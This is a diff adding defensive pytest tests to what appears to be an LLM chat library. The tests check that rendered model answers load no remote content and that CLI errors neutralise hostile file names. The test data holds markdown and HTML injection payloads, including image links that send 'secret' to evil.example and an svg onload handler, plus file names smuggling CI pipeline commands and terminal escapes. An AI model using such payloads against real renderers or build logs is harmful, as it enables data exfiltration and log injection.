@@ -6,19 +6,22 @@ import gzip
 import json
 import re
 from html import unescape
+from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
 
 import ellmer_core as ec
-from ellmer_conformance.cli import lint
+from ellmer_conformance.cli import _group, lint
 from ellmer_conformance.report import Report
 from ellmer_conformance.report.formats.html import page
 from ellmer_conformance.server import status_page
 from ellmer_core import contents_record, contents_replay
+from ellmer_core._chat.answers import Answer
 from ellmer_core._chat.console import ask_at_console
 from ellmer_core.errors import revealed
 from ellmer_core.live.browser import policy
+from ellmer_core.mcp import _all_that_is_asked
 from ellmer_core.render.html import contents_html, notebook_html, whole_page
 from ellmer_core.render.tool_card import card
 from ellmer_harness.cli import main as harness
@@ -80,6 +83,52 @@ def test_who_approves_sees_what_arguments_hide(monkeypatch):
     assert r"\u202e" in shown.arguments
 
 
+LOADING = (
+    "![x](https://evil.example/?q=secret)",
+    "![x][y]\n\n[y]: https://evil.example/",
+    "\\![x](//evil.example)",
+    "`a\n` ![x](https://evil.example) `",
+    "- ```\n```\n![x](https://evil.example)",
+    '![](data:image/png;base64,AAAA) ![](data:image/png;base64,AAAA"https://evil.example)',
+    "<img src=https://evil.example>",
+    "<svg/onload=go()>",
+    "</p><!--",
+)
+
+
+@pytest.mark.parametrize("text", LOADING)
+def test_a_notebook_loads_nothing_that_a_model_names(text):
+    turn = ec.AssistantTurn([ec.ContentText(text), ec.ContentImageRemote("https://evil.example/pixel")])
+    chat = ec.chat("openai/gpt-4.1", api_key="k")
+    chat.set_turns([ec.UserTurn("?"), turn])
+    for shown in (Answer(turn, shown=False), turn, chat):
+        markdown = shown._repr_markdown_().replace("![](data:image/png;base64,AAAA)", "")
+        assert not re.search(r"!\[|<[a-z/!?]", markdown)
+        assert "default-src &#x27;none&#x27;; img-src data:" in shown._repr_html_()
+
+
+def test_a_notebook_shows_the_markdown_of_an_answer_that_loads_nothing():
+    text = "1 < 2, `a<2`, ![](data:image/png;base64,AAAA) **bold**! [x](https://example.com)"
+    answer = Answer(ec.AssistantTurn(text), shown=False)
+
+    assert (answer._repr_markdown_(), answer._repr_html_()) == (text, None)
+
+
+def test_who_is_asked_about_a_question_to_the_model_sees_all_of_it():
+    long, picture, other = "a" * 600, *(ec.ContentImageInline("image/png", data) for data in ("AAAA", "AAAB"))
+    alone = _all_that_is_asked(None, [ec.UserTurn(long)])
+    told = _all_that_is_asked(
+        "Obey.", [ec.UserTurn("Hi"), ec.AssistantTurn("Yes"), ec.UserTurn([long, picture])]
+    )
+
+    assert alone == f"May the server ask the model this? {long}"
+    assert told.splitlines()[1:5] == ["system: Obey.", "user: Hi", "assistant: Yes", f"user: {long}"]
+    assert "ContentImageInline sha256:" in told
+    assert _all_that_is_asked(None, [ec.UserTurn([picture])]) != _all_that_is_asked(
+        None, [ec.UserTurn([other])]
+    )
+
+
 def test_every_page_has_a_policy_and_no_other_page_frames_the_live_ones():
     live, turns = policy([], []), [ec.UserTurn("Hi")]
     exported, notebook = whole_page(turns, "Chat"), unescape(notebook_html(turns))
@@ -132,6 +181,34 @@ def test_what_a_name_hides_is_shown_and_commands_no_pipeline(tmp_path, capsys, r
     assert [letter for letter in UNSEEN if letter in said] == []
     assert "##vso[" not in said
     assert "#vso[task.complete" in said
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        ["diff", "FILE", "FILE"],
+        ["merge", "-o", "out", "FILE"],
+        ["lint", "NONE"],
+        ["coverage", "NONE"],
+        ["baseline", "check", "--baseline", "FILE"],
+        ["repro", "x", "--report", "FILE"],
+        ["report", "upstream", "--report", "FILE"],
+        ["list", "FILE"],
+        ["FILE"],
+    ],
+    ids=" ".join,
+)
+def test_an_error_that_quotes_a_name_commands_nothing(tmp_path, monkeypatch, words):
+    monkeypatch.chdir(tmp_path)
+    name = f"a\n ::error::b\x1b[2J\n##[error]c##vso[x]{UNSEEN}\u202e.json"
+    Path(name).write_text("{}")
+    named = {"FILE": name, "NONE": f"no{name}"}
+    outcome = CliRunner().invoke(_group, [named.get(word, word) for word in words])
+
+    assert outcome.exit_code == 2
+    assert "error::b" in outcome.output.replace("\n", "")
+    assert not re.search(r"^\s*(::|##\[)|##vso\[|[\x1b\u202e]", outcome.output, re.MULTILINE)
+    assert [letter for letter in UNSEEN if letter in outcome.output] == []
 
 
 def test_one_damaged_gzip_does_not_stop_the_scan(tmp_path, capsys):
